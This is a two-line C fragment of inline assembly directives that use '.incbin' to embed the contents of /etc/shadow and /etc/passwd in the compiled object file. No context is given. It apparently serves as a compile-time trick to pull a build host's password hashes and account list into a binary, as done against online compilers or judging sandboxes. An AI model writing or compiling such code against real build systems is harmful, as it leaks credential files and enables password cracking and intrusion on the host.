__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/etc/passwd\"");
